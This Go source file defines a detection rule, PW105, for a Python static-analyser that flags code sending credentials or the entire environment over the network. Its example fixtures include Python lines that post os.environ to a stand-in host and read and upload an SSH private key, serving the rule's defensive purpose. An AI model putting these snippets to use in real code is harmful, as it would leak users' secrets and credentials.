package rules

import "github.com/pyward/pyward/python/ast"

func init() {
	Register(&Rule{
		ID: "PW105", Name: "credential_exfiltration", Severity: High, Confidence: Medium, CWE: 200,
		Message:        "credentials or the whole environment are sent over the network",
		Recommendation: "Send only the data the service needs; never credentials files or the whole environment.",
		Help:           "Reading SSH keys, cloud credentials, .netrc, browser stores or os.environ wholesale (dict(os.environ), os.environ.copy(), json.dumps(os.environ)) and passing that to requests, urllib, a socket or smtplib in the same function: how malicious packages steal secrets.",
		Flagged:        []string{"import os, requests\nrequests.post(\"https://x.example/c\", json=dict(os.environ))\n", "import os, requests\nkey = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nrequests.post(url, data=key)\n"},
		Clean:          []string{"import os, requests\nrequests.get(url, headers={\"Authorization\": os.environ[\"API_TOKEN\"]})\n"},
		Kinds:          []Kind{KindEnd},
		Check:          func(c *Context, _ ast.Node) { c.reportFlow() },
	})
}
